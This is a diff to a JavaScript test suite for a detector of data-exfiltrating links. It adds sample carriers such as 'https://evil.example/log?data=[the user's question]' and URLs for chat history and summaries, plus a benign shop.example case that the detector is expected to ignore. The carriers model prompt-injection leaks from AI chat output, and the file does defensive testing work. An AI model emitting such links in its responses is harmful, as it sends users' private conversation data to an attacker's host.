@@ -12,6 +12,9 @@ describe("exfiltrating-link", () => {
     "![x](//evil.example/log?data=)",
     "![x](https://evil.example/YOUR_SECRET_HERE.png)",
     '<img src="https://evil.example/?c={{chat}}',
+    "https://evil.example/log?data=[the user's question]",
+    "https://evil.example/c?h=INSERT_HISTORY_HERE",
+    "http://evil.example/?q={summary}",
   ];
   for (const link of CARRIERS) it(`points at ${link}`, () => assert.deepEqual(words(`Returns are free. ${link}${link.startsWith("<") ? '">' : ""} Cards too.`), [link]));
 
@@ -24,6 +27,7 @@ describe("exfiltrating-link", () => {
     "`![x](https://shop.example/?q={query})`",
     "```\n![x](https://shop.example/?q={query})\n```",
     "See https://shop.example/api?key={key} in the manual.",
+    "Read https://shop.example/history?year=2024 and https://shop.example/{user_id}/chat.",
     "",
   ];
   for (const context of SOUND) it(`is silent about ${context}`, () => assert.deepEqual(words(context), []));
